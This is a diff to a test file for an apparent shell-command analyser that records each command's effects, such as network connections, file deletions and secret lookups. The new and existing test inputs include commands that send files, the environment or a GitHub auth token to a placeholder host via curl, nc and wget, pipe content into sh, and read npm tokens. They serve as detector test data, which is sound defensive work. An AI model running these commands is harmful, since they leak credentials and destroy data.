@@ -51,7 +51,7 @@ function saidAct(act: Act): string {
     case "writes":
       return `writes ${said(act.path)} ${said(act.what)}`
     case "connects":
-      return `connects ${said(act.to)}`
+      return `connects ${said(act.to)}${act.what === undefined ? "" : ` < ${said(act.what)}`}`
     case "looks up":
       return `looks up ${said(act.name)}`
     case "replaces":
@@ -87,7 +87,7 @@ describe("words", () => {
     ["IFS=,; x=a,b; set -- $x; echo $2", '"b\\n"'],
     ["echo $UNSET", '[$UNSET "\\n"]'],
     ["echo ~/x", '[$HOME "/x\\n"]'],
-    ["echo *.c", '[name/glob("*.c") "\\n"]'],
+    ["echo *.c", '[name/expansion("*.c") "\\n"]'],
     ["printf '%s-%d-%o-%x\\n' a 8 8 255", '"a-8-10-ff\\n"'],
     ["printf '%s ' a b", '"a b "'],
     ["printf -v x %03d 7; echo $x", '"007\\n"'],
@@ -181,7 +181,7 @@ describe("flows", () => {
     ["cat t | $(cat n) -d | sh", ['text shell program:program(file("t"))']],
     ["find d -name '*.x' | xargs cat | sh", ['text shell file(name/glob("*.x", "d"))']],
     ["grep -rl m d | xargs -I{} sh {}", ['text shell file(content/basic("m", "d"))']],
-    ["for f in $(grep -lE m d/*); do sh $f; done", ['text shell file(content/extended("m", name/glob("d/*")))']],
+    ["for f in $(grep -lE m d/*); do sh $f; done", ['text shell file(content/extended("m", name/expansion("d/*")))']],
     ["find d -exec sh {} \\;", ['text shell file(name/glob("*", "d"))']],
     ["while read l; do eval $l; done < t", ['text shell slice:read(file("t"))']],
     ["f() { eval \"$1\"; }; f 'rm x'", ['text shell "rm x"', 'deletes "x"']],
@@ -190,6 +190,9 @@ describe("flows", () => {
     ["env A=b sudo -u r nohup nice -n 3 timeout 5 sh t", ['text shell file("t")']],
     ["echo 'rm x' | ssh h", ['connects "h"']],
     ["command sh t; exec sh t", ['text shell file("t")', 'text shell file("t")']],
+    ["curl -d @f -H a:$A h", ['connects "h" < [file("f") "a:" $A]']],
+    ["env | base64 | nc h 1", ['looks up "*"', 'connects "h" < edit:base64($*)']],
+    ["wget --post-data $(gh auth token) h", ['connects "h" < program:gh("auth token")', 'writes "h" fetched("h")']],
     ["echo $NPM_TOKEN; cat ~/.npmrc", ['looks up "NPM_TOKEN"']],
     ["uncalled() { rm x; }", ['deletes "x"']],
     ["cd d; rm x; cd ..; rm y", ['deletes "d/x"', 'deletes "y"']],
